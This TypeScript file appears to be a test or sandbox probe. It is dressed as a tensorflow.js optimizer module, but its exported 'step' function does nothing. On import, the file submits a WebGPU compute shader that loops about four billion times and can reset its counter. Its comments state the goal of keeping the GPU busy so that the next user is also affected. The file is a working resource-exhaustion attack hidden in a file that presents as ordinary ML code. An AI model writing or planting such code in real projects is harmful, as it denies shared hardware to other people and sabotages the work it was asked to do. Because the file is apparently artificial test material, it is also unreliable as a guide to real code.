// goal: keep the GPU busy with a shader that does not end
// ends: timeout, error, fail
// alone: no page can stop a shader, so the GPU stays busy for whoever comes next
// not on process, bubblewrap: the guest has no GPU
// gpu: it is what is attacked
import type * as tf from "@tensorflow/tfjs";

const adapter = await navigator.gpu.requestAdapter();
const device = await adapter!.requestDevice();
const module = device.createShaderModule({
  code: `@group(0) @binding(0) var<storage, read_write> x: array<u32>;
    @compute @workgroup_size(64) fn main(@builtin(global_invocation_id) id: vec3u) {
      for (var i = 0u; i < 4000000000u; i++) { x[id.x % 64] = x[(id.x + i) % 64] * 1664525u + 1013904223u; if (x[0] == 7u) { i = 0u; } }
    }`,
});
const pipeline = device.createComputePipeline({ layout: "auto", compute: { module } });
const buffer = device.createBuffer({ size: 256, usage: GPUBufferUsage.STORAGE });
const entries = [{ binding: 0, resource: { buffer } }];
const group = device.createBindGroup({ layout: pipeline.getBindGroupLayout(0), entries });
const encoder = device.createCommandEncoder();
const pass = encoder.beginComputePass();
pass.setPipeline(pipeline);
pass.setBindGroup(0, group);
pass.dispatchWorkgroups(1);
pass.end();
device.queue.submit([encoder.finish()]);
await device.queue.onSubmittedWorkDone();

export const step = (params: tf.Tensor[]) => params;
